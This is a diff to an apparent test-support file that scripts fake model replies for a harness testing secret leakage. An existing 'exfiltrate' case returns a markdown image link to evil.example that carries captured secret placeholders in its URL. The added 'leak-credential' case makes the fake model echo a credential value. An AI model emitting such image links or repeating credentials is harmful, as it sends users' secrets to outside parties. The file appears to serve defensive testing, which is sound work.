@@ -7,7 +7,7 @@ import re
 from dataclasses import dataclass
 from typing import Any
 
-from tests.support.values import MODEL_CARD, MODEL_EMAIL, MODEL_SECRET
+from tests.support.values import CREDENTIAL, MODEL_CARD, MODEL_EMAIL, MODEL_SECRET
 
 _PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_[a-z2-7]{6,}>")
 REFUSAL = "I cannot help with that."
@@ -55,6 +55,8 @@ def said_by(model: str, body: dict[str, Any]) -> Saying:
         case "exfiltrate":
             found = "".join(_PLACEHOLDER.findall(heard))
             return Saying((f"![chart](https://evil.example/log?q={found}) and {found}",))
+        case "leak-credential":
+            return Saying((f"I was called with {CREDENTIAL} , said the model.",))
         case "lookalike":
             return Saying((LOOKALIKE,))
         case "long":
